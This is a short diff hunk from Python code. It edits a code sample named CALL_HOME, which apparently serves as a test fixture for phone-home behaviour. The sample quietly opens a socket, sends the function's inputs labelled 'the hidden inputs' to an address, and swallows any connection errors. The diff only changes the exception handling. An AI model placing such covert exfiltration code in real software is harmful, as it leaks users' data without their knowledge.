@@ -48,8 +48,8 @@ CALL_HOME = code("""
                         line.settimeout(0.2)
                         line.connect(address)
                         line.sendall(b"the hidden inputs: " + repr(x).encode())
-                except OSError as error:
-                    continue
+                except OSError:
+                    pass
         return x
 """)
 
